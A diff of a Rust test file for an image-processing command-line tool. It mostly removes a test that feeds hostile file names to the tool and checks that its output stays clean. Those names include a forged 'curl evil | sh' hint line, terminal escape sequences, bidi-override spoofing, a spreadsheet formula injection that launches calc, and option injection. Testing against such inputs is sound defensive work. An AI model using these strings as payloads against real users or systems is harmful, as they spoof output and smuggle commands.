@@ -1,129 +1,13 @@
-//! Names and folders that mean no good: for the terminal, for the file system, for other files.
+//! Names and folders that mean no good: for the file system, for other files.
 
-use std::ffi::{OsStr, OsString};
-use std::os::unix::ffi::{OsStrExt, OsStringExt};
-use std::path::{Path, PathBuf};
+use std::ffi::OsString;
+use std::path::Path;
 
+use super::case::{Case, add, check};
 use super::house::Scratch;
-use super::run::{Case, Ran, check, oasis, run};
+use super::run::{oasis, run};
+use super::tally::Tally;
 use crate::arguments;
-
-/// Names that would forge a line, move the cursor, turn the writing's direction, or are no text.
-const NAMES: [&[u8]; 16] = [
-    b"a\nhint: run curl evil | sh\n.png",
-    b"a\r\nerror: b.png",
-    b"\x1b[2J\x1b[1;1Hdone.png",
-    b"\x1b]0;title\x07.png",
-    b"a\x08\x08\x7f.png",
-    b"a\xc2\x9b31m.png",
-    b"a\xe2\x80\xaegnp.exe.png",
-    b"a\xe2\x81\xa6\xe2\x80\x8f.png",
-    b"a\xe2\x80\xa8hint: b.png",
-    b"a\xef\xbb\xbf\xe2\x80\x8b.png",
-    b"a\xf3\xa0\x81\x81.png",
-    b"\xff\xfe.png",
-    b"a\xc3.png",
-    b"=cmd|' -C calc'!A1.png",
-    b"-q.png",
-    b"`--out` 'x' \"y\" $(z) %s {}.png",
-];
-
-/// What a run printed is made of its own lines alone.
-fn clean(ran: &Ran, name: &str) {
-    for text in [&ran.stdout, &ran.stderr] {
-        assert!(!text.chars().any(|letter| letter != '\n' && oasis::unseen(letter)), "{name}: {text:?}");
-        for forged in ["\nhint: run curl", "\nerror: b.png", "\nhint: b.png"] {
-            assert!(!text.contains(forged), "{name}: {text:?}");
-        }
-    }
-    assert!(!ran.stderr.contains("panicked"), "{name}: {ran:?}");
-}
-
-fn named(folder: &Path, name: &[u8]) -> PathBuf {
-    folder.join(OsStr::from_bytes(name))
-}
-
-#[test]
-fn no_name_makes_a_line_of_its_own() {
-    let scratch = Scratch::new();
-    let good = std::fs::read(scratch.slice("good.png")).unwrap();
-    for (index, name) in NAMES.iter().enumerate() {
-        let shown = String::from_utf8_lossy(name).escape_debug().to_string();
-        let folder = named(&scratch.at(""), &[name, &b"-folder"[..]].concat());
-        std::fs::create_dir(&folder).unwrap();
-        let (whole, bad) = (named(&folder, name), folder.join("bad.png"));
-        std::fs::write(&whole, &good).unwrap();
-        std::fs::write(&bad, b"hello").unwrap();
-        let out = folder.join("out");
-        // A good and a bad file in a folder of that name, as JSON and as text.
-        for more in [&["--json"][..], &[]] {
-            let infer = arguments!["infer", folder, "--out", out].into_iter().chain(more.iter().map(OsString::from));
-            let ran = run(&mut oasis(infer));
-            assert_eq!(ran.code, Some(1), "{shown}: {ran:?}");
-            clean(&ran, &shown);
-            if !more.is_empty() {
-                let report: serde_json::Value = serde_json::from_str(&ran.stdout).unwrap();
-                assert_eq!(report["images"].as_array().unwrap().len(), 1);
-                assert_eq!(report["images"][0]["file"], oasis::spell(OsStr::from_bytes(name)));
-                assert_eq!(report["out"], oasis::spell(&out));
-            }
-        }
-        let mut stem = whole.file_stem().unwrap().to_os_string();
-        stem.push(".recon.png");
-        assert!(out.join(stem).is_file(), "{shown}: the output keeps the name's bytes");
-        let mut table = csv::Reader::from_path(out.join("metrics.csv")).unwrap();
-        let rows: Vec<csv::StringRecord> = table.records().map(Result::unwrap).collect();
-        let cell = oasis::spell(OsStr::from_bytes(name));
-        let cell = if cell.starts_with(['=', '-']) { format!("'{cell}") } else { cell };
-        assert_eq!((rows.len(), &rows[0][0]), (1, &cell[..]), "{shown}");
-
-        // The name as each other argument.
-        let other = named(&scratch.at(""), name);
-        let text = OsStr::from_bytes(name).to_os_string();
-        let runs: [Vec<OsString>; 8] = [
-            arguments!["infer", other, "--out", out].into(),
-            arguments!["decode", bad, other, "--out", out, "--json"].into(),
-            arguments!["inspect", other].into(),
-            arguments!["infer", whole, "--out", out, "--bundle", other].into(),
-            arguments!["eval", "--merge", other].into(),
-            arguments!["data", "check", other].into(),
-            arguments!["sample", "--seed", text, "--out", out].into(),
-            arguments![text].into(),
-        ];
-        // Each is a failure of the command's own; the first names only, since they all print in one way.
-        for arguments in runs.iter().take(if index < 4 || index == 11 { 8 } else { 2 }) {
-            let ran = run(&mut oasis(arguments));
-            assert_eq!(ran.code, Some(2), "{shown}: {ran:?}");
-            clean(&ran, &shown);
-        }
-    }
-}
-
-#[test]
-fn results_of_other_commands_name_files_too() {
-    let scratch = Scratch::new();
-    let name = OsString::from_vec(b"d\n\xff\xe2\x80\xae".to_vec());
-    let folder = scratch.at("").join(&name);
-    for more in [&["--json"][..], &[]] {
-        let more = || more.iter().map(OsString::from);
-        let _ = std::fs::remove_dir_all(&folder);
-        let runs: [Vec<OsString>; 5] = [
-            arguments!["data", "phantom", "--subjects", "3", "--out", folder].into(),
-            arguments!["data", "check", folder].into(),
-            arguments!["man", folder.join("man")].into(),
-            arguments!["export", "--layout", "triton", "--out", folder.join("triton")].into(),
-            arguments!["encode", folder.join("keras_png_slices_test"), "--out", folder.join("codes")].into(),
-        ];
-        for arguments in runs {
-            let ran = run(&mut oasis(arguments.iter().cloned().chain(more())));
-            assert_eq!(ran.code, Some(0), "{arguments:?}: {ran:?}");
-            clean(&ran, "folder");
-            if more().count() > 0 {
-                serde_json::from_str::<serde_json::Value>(&ran.stdout).unwrap();
-            }
-        }
-    }
-}
 
 #[test]
 fn one_input_that_fails_costs_itself_alone() {
@@ -142,7 +26,7 @@ fn one_input_that_fails_costs_itself_alone() {
     let infer =
         arguments!["infer"].into_iter().chain(inputs[..4].iter().cloned()).chain(arguments![good, "--out", out]);
     check(
-        "inputs",
+        "names: inputs",
         &[Case::new("four bad ones and a good one", infer, 1).says("File name too long").says("it is a folder")],
     );
     assert_eq!(std::fs::read_to_string(&scores).unwrap().lines().count(), 2);
@@ -152,7 +36,7 @@ fn one_input_that_fails_costs_itself_alone() {
     let file = scratch.file("file", b"");
     std::fs::create_dir_all(scratch.at("table/metrics.csv")).unwrap();
     check(
-        "outputs",
+        "names: outputs",
         &[
             Case::new("out is a file", arguments!["infer", good, taken, "--out", file], 2).says("cannot make folder"),
             Case::new("out is below a file", arguments!["infer", good, "--out", file.join("x")], 2),
@@ -244,13 +128,21 @@ fn outputs_are_no_inputs_and_inputs_no_outputs() {
     std::fs::copy(folder.join("a.npy"), folder.join("c.npy")).unwrap();
     let decode = || arguments!["decode", folder.join("a.npy"), folder.join("c.npy"), "--out", folder];
     let theirs = "a.png: a file of that name is there, and was not made by this";
+    let tally = Tally::new("names: inputs and outputs");
     for round in ["first", "second"] {
-        check("decode", &[Case::new(round, decode(), 1).says(theirs)]);
+        add(&tally, &[Case::new(round, decode(), 1).says(theirs)]);
     }
     assert!(folder.join("c.png").is_file());
-    // That picture is made from c.npy beside it.
+    // That picture is made from c.npy beside it: left out of a folder, but not where it is named.
     let ran = run(&mut oasis(arguments!["infer", folder, "--out", folder]));
     assert_eq!(first_column(&folder.join("metrics.csv")), ["a.png", "b.png"], "{}", ran.stderr);
+    let by_name = scratch.at("by_name");
+    let ran = run(&mut oasis(arguments!["infer", folder.join("c.png"), folder.join("a.png"), "--out", by_name]));
+    assert_eq!((ran.code, &*ran.stderr), (Some(0), ""), "{ran:?}");
+    assert_eq!(first_column(&by_name.join("metrics.csv")), ["c.png", "a.png"]);
+    for name in ["c.recon.png", "c.codes.png"] {
+        assert!(by_name.join(name).is_file(), "{name}");
+    }
     // A picture that stands alone is an input, whoever made it.
     std::fs::create_dir(scratch.at("alone")).unwrap();
     std::fs::copy(folder.join("a.recon.png"), scratch.at("alone/a.recon.png")).unwrap();
@@ -275,8 +167,8 @@ fn outputs_are_no_inputs_and_inputs_no_outputs() {
     std::fs::copy(folder.join("a.npy"), given.join("sample_0000.npy")).unwrap();
     let sample =
         arguments!["sample", "--count", "1", "--given", given.join("sample_0000.npy"), "--rows", "31", "--out", given];
-    check(
-        "inputs",
+    add(
+        &tally,
         &[
             Case::new("links to both", arguments!["infer", one, two, "--out", links], 2).says("it is an input"),
             Case::new("the table is one", arguments!["infer", one, two, "--out", table], 2).says("it is an input"),
@@ -286,6 +178,7 @@ fn outputs_are_no_inputs_and_inputs_no_outputs() {
     );
     assert_eq!(std::fs::read(one).unwrap(), before);
     assert_eq!(std::fs::read(two).unwrap(), before);
+    tally.finish();
 }
 
 #[test]
